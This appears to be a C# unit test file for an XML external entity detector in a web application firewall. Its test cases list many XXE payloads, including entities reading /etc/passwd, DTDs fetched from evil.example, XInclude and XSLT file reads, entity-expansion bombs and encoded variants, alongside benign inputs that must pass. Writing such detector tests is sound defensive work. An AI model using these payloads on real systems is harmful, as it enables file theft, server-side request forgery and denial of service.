using Sakimori.Waf.Detectors;

namespace Sakimori.Waf.Tests.Detectors;

public sealed class XmlExternalEntityTests
{
    private static readonly DetectorSpecification Detector = new(XmlExternalEntity.DetectUnfiltered, XmlExternalEntity.MayDetect);

    [Fact]
    public void Entities_doctypes_and_includes_are_found() => Detector.Finds(
        17,
        "<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>",
        "<?xml version='1.0'?><!DOCTYPE r [<!ENTITY % p SYSTEM \"http://evil.example/x.dtd\"> %p;]><r/>",
        "<!DOCTYPE r SYSTEM \"http://evil.example/x.dtd\"><r/>", "<!DOCTYPE r PUBLIC \"x\" \"http://evil.example/x.dtd\"><r/>",
        "<!doctype r [<!entity x public 'a' 'http://evil.example/'>]>",
        "<!DOCTYPE z [<!ENTITY a \"ha\"><!ENTITY b \"&a;&a;\"><!ENTITY c \"&b;&b;\">]>",
        "<!DOCTYPE z [<!ENTITY a \"&b;&b;&b;&b;&b;\">]>", "<!DOCTYPE z [<!ENTITY % a \"<!ENTITY &#x25; b SYSTEM 'x'>\">]>",
        "<a xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"file:///etc/passwd\"/></a>",
        "<include xmlns=\"http://www.w3.org/2001/XInclude\" href=\"/etc/passwd\"/>", "<xsl:include href=\"http://evil.example/x.xsl\"/>",
        "<xsl:copy-of select=\"document('file:///etc/passwd')\"/>", "<xsl:value-of select=\"unparsed-text('/etc/passwd')\"/>",
        "<?xml-stylesheet type=\"text/xsl\" href=\"http://evil.example/x.xsl\"?>", "%3C!DOCTYPE a [%3C!ENTITY x SYSTEM 'file:///a'%3E]%3E",
        "&lt;!DOCTYPE a [&lt;!ENTITY x SYSTEM 'file:///a'&gt;]&gt;", "<a xmlns:j=\"http://xml.apache.org/xalan/java\">");

    [Fact]
    public void Wide_and_seven_bit_encodings_are_read()
    {
        const string Attack = "<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>";
        var encodings = new[]
        {
            System.Text.Encoding.Unicode, System.Text.Encoding.BigEndianUnicode, System.Text.Encoding.UTF32,
            new System.Text.UTF32Encoding(bigEndian: true, byteOrderMark: true),
        };
        foreach (var encoding in encodings)
        {
            var wide = string.Concat(encoding.GetBytes(Attack).Select(static b => (char)b));
            Assert.True(XmlExternalEntity.Detect(wide, out _), encoding.WebName);
        }

        Assert.True(XmlExternalEntity.Detect("+ADwAIQ-DOCTYPE a +AFsAPAAh-ENTITY x SYSTEM +ACI-file:///a+ACIAPgBdAD4-", out _));
        Assert.True(XmlExternalEntity.Detect("\u004c\u006f\u00a7\u0094\u0093\u0040\u00a5\u0085\u0099", out _));
    }

    [Fact]
    public void Ordinary_documents_and_text_pass() => Detector.Passes(
        14,
        "<!DOCTYPE html>", "<!DOCTYPE html SYSTEM \"about:legacy-compat\">",
        "<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Transitional//EN\" \"http://www.w3.org/TR/xhtml1/DTD/xhtml1-transitional.dtd\">",
        "<!DOCTYPE HTML PUBLIC \"-//W3C//DTD HTML 4.01//EN\">",
        "<!DOCTYPE svg PUBLIC \"-//W3C//DTD SVG 1.1//EN\" \"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd\" [<!ENTITY ns \"http://x/\">]>",
        "<?xml version=\"1.0\"?><a>b</a>", "the <!ENTITY> declaration", "document('x')", "jsp:include page", "+ADVANCED+",
        "<?xml-stylesheet type=\"text/css\" href=\"a.css\"?>", "SYSTEM PUBLIC ENTITY", "実体宣言<!ENTITY>", "a\0b\0c\0d\0e\0f\0");

    [Fact]
    public void Cost_is_linear() => Detector.Is_linear(
        "<!ENTITY ", "<!ENTITY a \"", "<!DOCTYPE ", "<!ENTITY a \"&b;\">", "<!DOCTYPE a PUBLIC \"", ":include", "<x:include ", "\0", "<\0!\0",
        "+AD", "document(", "<include", "<?xml-stylesheet xsl\" ", "&lt;!");

    [Fact]
    public void Benign_values_allocate_nothing() => Detector.Allocates_nothing(
        "<!DOCTYPE html>", "plain text of a comment", "the <!ENTITY> declaration", "金額：１００円", "a&amp;b");

    [Fact]
    public void Prefilter_is_a_superset() => Detector.Prefilter_is_a_superset(
        "<!DOCTYPE a ", "<!ENTITY x ", "SYSTEM ", "\"http://x/\"", "'a'", "%", " ", ">", "[", "<xi:include ", "href=", "\0", "&a;&a;", "\"",
        "%3C!ENTITY x ", "document('/a", "<");
}
